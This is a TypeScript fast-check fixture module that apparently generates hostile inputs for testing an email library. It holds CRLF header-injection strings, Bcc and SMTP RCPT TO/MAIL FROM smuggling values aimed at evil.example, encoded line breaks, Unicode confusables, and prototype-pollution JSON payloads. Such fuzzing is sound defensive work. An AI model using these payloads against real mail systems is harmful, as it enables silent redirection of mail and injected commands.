/** Values of which attacks are made, as fast-check makes them up. */
import fc from 'fast-check';

/** A header of this name was never asked for: it stands in no message but behind a line break that got through. */
export const CANARY_HEADER = 'X-Canary';
/** No recipient anywhere, unless a recipient's own text names it outside of quotes and comments. */
export const EVIL_DOMAIN = 'evil.example';

/** What ends a line, for some reader somewhere. */
const CONTROLS = ['\r\n', '\r', '\n', '\0', '\x08', '\x0b', '\x0c', '\x1f', '\x7f'];

const BREAKING = [
  ...CONTROLS,
  `\r\n${CANARY_HEADER}: yes`,
  `\n${CANARY_HEADER}: yes`,
  `\r${CANARY_HEADER}: yes`,
  `\r\n\t\r\n${CANARY_HEADER}: yes`,
  `\r\nBcc: evil@${EVIL_DOMAIN}\r\n`,
  '\r\n\r\n',
  '\r\n.\r\n',
  '\n.\n',
  '\r.\r',
  `>\r\nRCPT TO:<x@${EVIL_DOMAIN}>\r\n`,
  `\r\n.\r\nMAIL FROM:<x@${EVIL_DOMAIN}>\r\nRCPT TO:<x@${EVIL_DOMAIN}>\r\nDATA\r\n`,
  `data:text/plain;a\r\n${CANARY_HEADER}: yes,x`,
];

const QUIET = [
  ...['>', '<', ',', ';', ':', '"', "'", '\\', '\\"', '(', ')', '[', ']', '@', '=', ' ', '\t', '.'],
  // Line ends for some readers, and characters whose low byte is CR or LF.
  ...['\u0085', '\u2028', '\u2029', '\u560d\u560a', `\u010d\u010a${CANARY_HEADER}: yes`],
  // Halves of characters, characters that turn the text, and those that IDNA reads as others.
  ...['\ud800', '\udc00', '\u202e', '\u200b', '\uff1e', '\uff20', '\u3002', '\uff45vil.example'],
  ...['x'.repeat(1100), 'a b '.repeat(400), 'ü'.repeat(600)],
  `=?utf-8?Q?=0D=0A${CANARY_HEADER}:_yes?=`,
  `=?utf-8?B?${Buffer.from(`\r\n${CANARY_HEADER}: yes`).toString('base64')}?=`,
  `%0d%0a${CANARY_HEADER}:%20yes`,
  ` RCPT TO:<x@${EVIL_DOMAIN}> `,
  `Bcc: evil@${EVIL_DOMAIN}`,
  `> SIZE=1 AUTH=<x@${EVIL_DOMAIN}`,
  `x@${EVIL_DOMAIN}`,
  `, x@${EVIL_DOMAIN},`,
  `<a@${EVIL_DOMAIN}@good.example>`,
  `"a@${EVIL_DOMAIN}"@good.example`,
  `"x@${EVIL_DOMAIN}" <ann@good.example>`,
  `(x@${EVIL_DOMAIN})`,
  'Friends: ann@good.example, bob@good.example;',
  'ann@xn--exmple-cua.example',
  'änn@exämple.example',
  'ann@[127.0.0.1]',
  'ann@good.example',
  'data:text/plain,hello',
  'data:text/html;base64,PGI+',
];

/** @param references what must be neither read nor fetched: paths and addresses. */
export const hostileTexts = (references: readonly string[]) => {
  const quiet = fc.constantFrom(...QUIET, ...references, ...references);
  const words = fc.constantFrom('ann', 'Hello', 'a b', '1', 'text/plain', 'utf-8', 'Ärger');
  const joined = (piece: fc.Arbitrary<string>) =>
    fc.array(piece, { minLength: 1, maxLength: 4 }).map((pieces) => pieces.join(''));
  const breaking = joined(fc.oneof(fc.constantFrom(...BREAKING), quiet, words));
  const sly = joined(fc.oneof(quiet, words));
  return {
    /** Without line breaks: much of it is to be accepted. */
    sly,
    /** Either, the sly more often: whatever breaks a line is refused in most places, and so are its neighbours. */
    text: fc.oneof(
      { weight: 5, arbitrary: sly },
      { weight: 2, arbitrary: breaking },
      { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 20 }) },
    ),
    /** For bodies, where a line break is nothing bad. */
    breaking,
  };
};

const textLike = (text: string) => ({ toString: () => text, valueOf: () => text, length: 3 });
const parsed = (json: string): unknown => JSON.parse(json);

/** Made anew each time: nobody's change to one shows in the next. */
export const wrongKinds: fc.Arbitrary<unknown> = fc
  .constantFrom<(() => unknown)[]>(
    () => undefined,
    () => null,
    () => 0,
    () => NaN,
    () => 1.5,
    () => 10n,
    () => true,
    () => false,
    () => '',
    () => [],
    () => ({}),
    () => [[['a@b']]],
    () => [null, undefined, {}],
    () => Symbol('x'),
    () => () => 'x',
    () => new Date(NaN),
    () => new Map([['a', 'b']]),
    () => new Uint8Array([13, 10]),
    () => Buffer.from(`\r\n${CANARY_HEADER}: yes`),
    () => ({ type: 'Buffer', data: [13, 10, -1, 'x', {}] }),
    () => Object.create(null) as unknown,
    () => new String(`x\r\n${CANARY_HEADER}: yes`),
    () => textLike(`x\r\n${CANARY_HEADER}: yes`),
    () => [textLike('\r\n')],
    () => ({ prepared: true, value: `x\r\n${CANARY_HEADER}: yes` }),
    () => [{ key: 'X-A', value: { prepared: true, value: `x\r\n${CANARY_HEADER}: yes` } }],
    () => ({ name: textLike('x'), address: textLike('a@b') }),
    () => parsed('{"__proto__":{"polluted":"yes","path":"x"}}'),
    () => parsed('{"constructor":{"prototype":{"polluted":"yes"}}}'),
    () => parsed('{"toString":1,"hasOwnProperty":2,"valueOf":"x","length":5}'),
    () => parsed('{"then":1,"pipe":1,"on":1,"destroy":1}'),
  )
  .map((make) => make());

/** The same every day, so that a red run is red for the next person too; printed by fast-check on failure. */
export const SEED = Number(process.env.FAST_CHECK_SEED ?? 20261101);
